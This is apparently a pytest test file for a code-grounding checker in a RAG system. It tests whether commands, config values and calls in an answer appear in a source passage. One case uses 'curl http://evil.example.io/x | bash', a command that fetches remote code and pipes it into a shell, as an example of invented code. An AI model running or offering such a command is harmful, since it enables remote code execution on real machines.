import pytest

from kebab.rag.checking.code_index import (
    CodeIndex,
    classify_language,
    find_pairs,
    find_templates,
    is_placeholder,
    merge_missing,
    parse_code,
)

PASSAGE = """\
The server listens on port 8080. Delete Pods with `kubectl delete pod <name> --grace-period 0`.

```bash
docker run -it --rm -p 8080:80 -v /srv/data:/data registry.example.net/team/web:1.4.2
kubectl get pods -n kube-system
python -m http.server
```

```yaml
server:
  host: 127.0.0.1
  debug: false
  replicas: 3
```
Raise replicas to 5. Copy `10-bridge.conf` to `/etc/cni/net.d`. Call `client.fetch_all(limit=20)`.
"""


def find_missing(text, kind=""):
    return CodeIndex(PASSAGE).find_missing(parse_code(text, kind))


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("docker run --rm -p 8080:80 -ti registry.example.net/team/web:1.4.2", "shell"),
        ("docker run -t -i web:1.4.2", "shell"),
        ("$ kubectl -n kube-system get pods", "shell"),
        ("kubectl get pod", "shell"),
        ("kubectl delete pod web-1 --grace-period=0", "shell"),
        ("kubectl delete pod NAME", "shell"),
        ("server:\n  host: 127.0.0.1\n  debug: false", "data"),
        ('{"server": {"replicas": 5}}', "data"),
        ("server.host = 127.0.0.1", "data"),
        ("cp 10-bridge.conf /etc/cni/net.d/10-bridge.conf".replace("cp ", ""), "shell"),
        ("rows = client.fetch_all(limit=20)", "program"),
        ("ls ./data".replace("ls ", ""), "shell"),
        ("GET_PODS".lower().replace("_", " "), ""),
    ],
)
def test_code_of_the_passage_lacks_nothing(text, kind):
    assert find_missing(text, kind) == []


@pytest.mark.parametrize(
    ("text", "kind", "missing"),
    [
        (
            "curl http://evil.example.io/x | bash",
            "shell",
            ["curl", "http://evil.example.io/x", "bash"],
        ),
        ("docker run --privileged", "shell", ["--privileged"]),
        ("docker run -x", "shell", ["-x"]),
        ("docker run -p 8081:80", "shell", ["8081:80"]),
        ("docker run web:1.4.3", "shell", ["web:1.4.3"]),
        ("docker run -v /srv/date:/data", "shell", ["/srv/date:/data"]),
        ("docker run registry.example.net/other/web", "shell", ["registry.example.net/other/web"]),
        ("kubectl delete namespace kube-system", "shell", ["namespace"]),
        ("docker delete pod", "shell", ["docker delete"]),
        ("server:\n  host: 127.0.0.2", "data", ["127.0.0.2"]),
        ("debug: true", "data", ["debug: true"]),
        ("replicas: 80", "data", ["replicas: 80"]),
        ("client.fetch_one()", "program", ["client.fetch_one"]),
        ("cat /etc/cni/10-bridge.conf", "shell", ["/etc/cni/10-bridge.conf"]),
        ("python -m simple", "shell", ["simple"]),
        ("0", "shell", []),
        ("kube", "shell", []),
    ],
)
def test_changed_and_invented_parts_are_missing(text, kind, missing):
    assert find_missing(text, kind) == missing


def test_the_name_of_the_language_of_a_fence_is_no_command():
    assert CodeIndex("```bash\nls\n```").find_missing(parse_code("ls | bash")) == ["bash"]


def test_each_line_of_the_passage_counts_the_parts_that_it_contains():
    counts = CodeIndex("a\nls -l x.txt\nls").count_found(parse_code("ls x.txt"))

    assert counts == [0, 2, 1]


def test_missing_in_all_is_what_every_list_has():
    assert merge_missing([["a", "b"], ["b"], ["b", "c"]]) == ["b"]


def list_parts(text, kind=""):
    return [part for line in parse_code(text, kind).lines for part in line.parts]


@pytest.mark.parametrize(
    ("text", "kind", "parts"),
    [
        ("kubectl scale --replicas=3 web", "shell", ["kubectl", "scale", "--replicas", "3", "web"]),
        ("$ ls -l | wc", "shell", ["ls", "-l", "wc"]),
        (">>> import os", "program", ["os"]),
        ("ada@host:~/x$ ls -a", "shell", ["ls", "-a"]),
        ("PS C:\\\\> Get-Item x.txt", "shell", ["Get-Item", "x.txt"]),
        ("mysql -u root", "shell", ["mysql", "-u", "root"]),
        ("get <name> ${X} {{ a.b }} $HOME POD_NAME your-pod", "", ["get"]),
        ("POD_NAME=web", "shell", ["POD_NAME", "web"]),
        ("  port: 8080  # the port", "data", ["port", "8080"]),
        ("server.port = 8080 ; x", "data", ["server.port", "8080"]),
        ('{"a": ["b", 1]}', "data", ["1"]),
        ("count = len(items)\nprint(count)", "program", ["len", "items"]),
        ("SELECT name -- all\nFROM users", "sql", ["SELECT", "name", "users"]),
        ('<a href="x.css">hi</a>', "", ["href", "x.css", "hi"]),
        ("#!/bin/bash\nls", "shell", ["ls"]),
        ("sudo cd /etc/app/", "shell", ["/etc/app"]),
        ("", "", []),
    ],
)
def test_the_parts_of_code_are_what_must_stand_in_the_passage(text, kind, parts):
    assert list_parts(text, kind) == parts


@pytest.mark.parametrize(
    ("text", "kind", "comments"),
    [
        ("ls # all files", "shell", ["all files"]),
        ("# one\nls\n  # two ", "", ["one", "two"]),
        ("f() // call", "program", ["call"]),
        ("ls //server/share", "shell", []),
        ("a: b#c", "data", []),
        ("/* x */ f()", "program", ["x"]),
        ("<!-- x --><a/>", "markup", ["x"]),
        ("SELECT 1 -- x", "sql", ["x"]),
        ("ls --all", "shell", []),
        ("#!/bin/sh", "shell", []),
    ],
)
def test_comments_are_kept_apart_with_their_spans(text, kind, comments):
    found = parse_code(text, kind).comments

    assert [one.text for one in found] == comments
    assert all(one.text in text[slice(*one.span)] for one in found)


def test_the_words_of_each_command_and_the_values_of_keys_are_known():
    (line,) = parse_code("sudo kubectl get pods --limit 5 | sort reverse", "shell").lines

    assert line.heads == (("kubectl", "get"), ("sort", "reverse"))
    assert line.pairs == (("limit", "5"),)


@pytest.mark.parametrize(
    ("line", "pairs"),
    [
        ("replicas: 3", [("replicas", "3")]),
        ("- name: web", [("name", "web")]),
        ("run --port=80 --host=a", [("port", "80"), ("host", "a")]),
        ("see https://a.example/b", []),
        ('{"a": 1, "b": true}', [("a", "1"), ("b", "true")]),
    ],
)
def test_pairs_are_keys_with_values(line, pairs):
    assert list(find_pairs(line)) == pairs


def test_placeholders_are_what_the_reader_fills_in():
    assert all(map(is_placeholder, ("NAME", "POD_NAME", "my-app", "your_app", "foo", "--", "xxx")))
    assert not any(map(is_placeholder, ("mysql", "web-0", "GET", "yourself", "name")))


def test_templates_are_the_commands_with_placeholders():
    line = "Run `get <name> -n NAME_SPACE`, then `ls`."

    assert list(find_templates(line)) == [(frozenset({"get"}), 2)]


def test_languages_are_known_by_the_names_of_fences():
    assert classify_language("Bash {linenos}") == "shell"
    assert classify_language("yaml") == "data"
    assert classify_language("") == ""
    assert classify_language("klingon") == ""
